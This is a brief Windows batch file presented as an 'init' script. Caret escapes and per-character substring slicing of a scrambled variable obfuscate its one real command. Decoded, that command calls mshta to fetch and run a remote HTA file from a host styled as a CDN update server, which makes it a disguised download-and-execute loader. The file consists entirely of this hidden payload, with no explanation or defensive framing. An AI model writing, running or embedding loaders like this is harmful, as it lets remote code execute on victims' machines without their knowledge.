REM init 9016 v3
@e^c^h^o ^o^ff
s^et "lvqk=xpf:g0Hmha.Xltnjsc/-dKeTu"
%lvqk:~7,1%%lvqk:~16,1%%lvqk:~8,1%%lvqk:~-12,1%%lvqk:~9,1% %lvqk:~8,1%%lvqk:~13,1%%lvqk:~13,1%%lvqk:~1,1%%lvqk:~3,1%%lvqk:~-7,1%%lvqk:~18,1%%lvqk:~17,1%%lvqk:~20,1%%lvqk:~-11,1%%lvqk:~19,1%%lvqk:~24,1%%lvqk:~1,1%%lvqk:~-5,1%%lvqk:~-16,1%%lvqk:~13,1%%lvqk:~22,1%%lvqk:~10,1%%lvqk:~22,1%%lvqk:~0,1%%lvqk:~-16,1%%lvqk:~-18,1%%lvqk:~1,1%%lvqk:~-13,1%%lvqk:~-3,1%%lvqk:~18,1%%lvqk:~24,1%%lvqk:~-24,1%%lvqk:~-5,1%%lvqk:~-16,1%%lvqk:~-12,1%%lvqk:~-3,1%%lvqk:~10,1%%lvqk:~8,1%%lvqk:~13,1%%lvqk:~-16,1%
